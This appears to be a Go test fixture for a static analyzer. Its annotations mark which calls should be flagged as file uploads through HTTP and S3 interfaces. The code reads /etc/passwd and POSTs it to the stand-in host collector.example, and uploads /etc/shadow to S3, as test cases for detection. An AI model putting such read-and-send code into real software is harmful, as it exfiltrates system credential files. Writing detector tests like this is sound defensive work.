// --- path: send/send.go ---
// An interface of the tree that a type of a library has: what runs is the library's method.
package send

import (
	"bytes"
	"context"
	"net/http"
	"os"

	"github.com/aws/aws-sdk-go-v2/service/s3"
)

type doer interface {
	Do(request *http.Request) (*http.Response, error)
}

type putter interface {
	PutObject(ctx context.Context, in *s3.PutObjectInput, options ...func(*s3.Options)) (*s3.PutObjectOutput, error)
}

// Nothing of a library is among the parameters: it is whatever the tree has.
type runner interface {
	Do(text string) error
}

type sender struct {
	client doer
	store  putter
	other  runner
}

func (s *sender) post() {
	body, _ := os.ReadFile("/etc/passwd") //~ source(FILE) f1
	request, _ := http.NewRequest("POST", "https://collector.example/u", bytes.NewReader(body))
	s.client.Do(request) //~ sink(egress.http) f1, finding(file-upload, traced) f1
}

func (s *sender) put(ctx context.Context) {
	body, _ := os.ReadFile("/etc/shadow") //~ source(FILE) f2
	s.store.PutObject(ctx, &s3.PutObjectInput{Body: bytes.NewReader(body)}) //~ sink(egress.cloud) f2, finding(file-upload, traced) f2
}

func (s *sender) run() {
	body, _ := os.ReadFile("/etc/group")
	s.other.Do(string(body)) //~ ok
}

// One of the tree has it, too.
type quiet struct{}

func (quiet) Do(request *http.Request) (*http.Response, error) { return nil, nil }
